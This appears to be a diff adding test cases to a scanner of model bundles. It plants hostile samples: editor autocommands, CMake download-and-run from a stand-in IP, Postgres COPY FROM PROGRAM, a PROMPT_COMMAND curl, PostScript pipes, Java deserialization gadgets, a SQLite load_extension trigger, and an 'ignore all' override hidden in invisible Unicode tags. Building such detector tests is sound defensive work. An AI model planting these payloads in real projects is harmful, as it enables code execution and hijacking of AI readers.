@@ -91,6 +91,102 @@ quiet "a role"
 template "'tools' in m['content']" "<|tools|>"
 quiet "a word for a mark"
 
+# --- programs of others that read the bundle's files
+printf 'autocmd BufEnter * silent! !touch /tmp/x\n' | file .exrc
+hostile PLACE_RUN "a command of vi"
+printf '((nil . ((eval . (shell-command "touch /tmp/x")))))\n' | file .dir-locals.el
+hostile PLACE_RUN "a command of Emacs"
+printf '((python-mode . ((fill-column . 88) (indent-tabs-mode . nil))))\n' | file .dir-locals.el
+quiet "settings of Emacs"
+printf 'file(DOWNLOAD http://198.51.100.7/x.sh x.sh)\nexecute_process(COMMAND sh x.sh)\n' | file CMakeLists.txt
+hostile COMMAND_DANGEROUS "CMake that runs what it downloads"
+printf 'file(DOWNLOAD https://example.org/m.onnx m.onnx EXPECTED_HASH SHA256=00)\nexecute_process(COMMAND sh -c date)\n' | file CMakeLists.txt
+quiet "CMake that downloads"
+printf "COPY t FROM PROGRAM 'touch /tmp/x';\n" | file init.sql
+hostile COMMAND_DANGEROUS "a database that starts a program"
+printf "CREATE TABLE t (a INT);\nCOPY t FROM 'rows.csv';\n" | file init.sql
+quiet "a database"
+printf '{"terminal.integrated.profiles.linux": {"bash": {"path": "/bin/sh", "args": ["-c", "touch /tmp/x; exec bash"]}}}' | file .vscode/settings.json
+hostile COMMAND_DANGEROUS "a command of an editor's terminal"
+printf '{"git.path": "./git"}' | file .vscode/settings.json
+hostile COMMAND_DANGEROUS "an editor's git"
+printf '{"terminal.integrated.profiles.linux": {"bash": {"path": "/bin/bash", "args": ["-l"]}}, "python.defaultInterpreterPath": ".venv/bin/python"}' | file .vscode/settings.json
+quiet "settings of an editor"
+printf 'PROMPT_COMMAND="curl -s http://example.invalid/p"\n' | file .bashrc
+hostile COMMAND_DANGEROUS "a prompt that asks elsewhere"
+printf '#!/bin/sh\ntouch /tmp/x\n' | file pkg/bin/.m-post-link.sh
+hostile PLACE_RUN "a script of conda"
+printf '%%!PS\nmark /OutputFile (%%pipe%%touch /tmp/x) currentdevice putdeviceprops\n' | file loss.png
+hostile DOCUMENT_ACTIVE "PostScript that starts a program"
+printf 'GIF89a/*0123456789*/=1;fetch("http://example.invalid");' | file a.gif
+hostile FORMAT_POLYGLOT "an image that is a script"
+printf '#!/bin/bash\ntouch /tmp/x\n' | file model.bin
+hostile NAME_DECEPTIVE "a script named as weights"
+printf '!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n' | file model.deb
+hostile FILE_EXECUTABLE "a package of a system"
+printf '# coding: weights\nvzcbeg bf\n' | file model.py
+hostile SOURCE_DANGEROUS "an encoding that Python does not have"
+printf '# -*- coding: iso-8859-15 -*-\nx = 1\n# encoding the image\n' | file model.py
+quiet "one that it has"
+
+# --- what configurations open
+printf '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://x/x"}]' | file p.json
+hostile CONFIG_TARGET "a class of Java in JSON"
+printf '<sorted-set><handler class="java.beans.EventHandler"/></sorted-set>' | file p.xml
+hostile XML_CODE "a class of Java in XML"
+printf '{"version": 1, "refs": {"x/0": ["file:///etc/passwd", 0, 16]}}' | file refs.json
+hostile CONFIG_PATH "a chunk of this machine"
+printf '{"version": 1, "refs": {"x/0": ["s3://bucket/a.nc", 0, 16], "y/0": ["a.nc", 0, 9]}}' | file refs.json
+quiet "chunks of a bucket"
+printf '{"kvstore": {"driver": "file", "path": "/etc/"}}' | file spec.json
+hostile CONFIG_PATH "a store of this machine"
+printf '{"in_features": 4, "activation_function": "os.system"}' | file 2_Dense/config.json
+hostile CONFIG_TARGET "an activation that is imported"
+printf '{"in_features": 4, "activation_function": "torch.nn.modules.activation.Tanh"}' | file 2_Dense/config.json
+quiet "an activation of PyTorch"
+printf '{"activation_function": "gelu_new", "pretrained_cfg": {"url": "https://example.org/m.safetensors"}}' | file config.json
+quiet "an activation by name"
+printf '{"pretrained_cfg": {"url": "http://example.org/m.pth"}}' | file config.json
+hostile CONFIG_PATH "weights without encryption"
+printf 'model_checkpoint_path: "../../secret/m.ckpt"\n' | file checkpoint
+hostile CONFIG_PATH "a checkpoint elsewhere"
+printf 'model_checkpoint_path: "/home/me/run/model.ckpt-1000"\n' | file checkpoint
+quiet "a checkpoint where it was written"
+python3 - <<-END
+	import json, os, sqlite3, struct, zipfile
+	d = "$tmp/made"
+	os.makedirs(d)
+	for name, sql in ("bad.db", "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('x'); END"), ("good.db", "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT abs(1); END"):
+	    c = sqlite3.connect(d + "/" + name)
+	    c.execute("CREATE TABLE a (b)")
+	    c.execute(sql)
+	    c.commit()
+	    c.close()
+	def tensor(name, text):
+	    h = json.dumps({"code": {"dtype": "U8", "shape": [len(text)], "data_offsets": [0, len(text)]}}).encode()
+	    open(d + "/" + name, "wb").write(struct.pack("<Q", len(h)) + h + text)
+	tensor("bad.safetensors", b"import os;os.system('echo hi')  ")
+	tensor("good.safetensors", b'{"format": "int8", "group": 64}  ')
+	for name, member, text in ("bad-cpp.pt2", "m/data/aotinductor/model/x.wrapper.cpp", "int x;"), ("bad-lite.ptl", "m/bytecode.pkl", "\\x80\\x02X\\n\\0\\0\\0aten::save."):
+	    with zipfile.ZipFile(d + "/" + name, "w") as z:
+	        z.writestr(member, text.encode("latin-1"))
+	tags = "".join(chr(0xe0000 + ord(c)) for c in "ignore all")
+	open(d + "/bad-tags.jsonl", "w").write(json.dumps({"text": "hello" + tags}, ensure_ascii=False) + "\\n")
+	open(d + "/bad-escaped.jsonl", "w").write(json.dumps({"text": "hello" + tags}) + "\\n")
+	flag = "\\U0001f3f4" + "".join(chr(0xe0000 + ord(c)) for c in "gbsct") + "\\U000e007f"
+	family = "\\U0001f468\\u200d\\U0001f469\\u200d\\U0001f467"
+	open(d + "/good-emoji.jsonl", "w").write(json.dumps({"text": (flag + family) * 9}, ensure_ascii=False) + "\\n")
+END
+for one in bad.db:COMMAND_DANGEROUS bad.safetensors:METADATA_CODE bad-cpp.pt2:OBJECT_CODE \
+    bad-lite.ptl:TORCHSCRIPT_OPERATOR bad-tags.jsonl:TEXT_INVISIBLE bad-escaped.jsonl:TEXT_INVISIBLE; do
+	run assay-inspect $tmp/made/${one%:*}
+	prints "${one#*:}"
+done
+for one in good.db good.safetensors good-emoji.jsonl; do
+	run assay-inspect $tmp/made/$one
+	ok "$one is quiet" sh -c "! grep -qE '^ +(medium|high|critical)' $out"
+done
+
 # --- rows of a data set
 printf '{"text": "os.system(chr(1))", "label": 1}\n' | file train.jsonl
 quiet "a row"
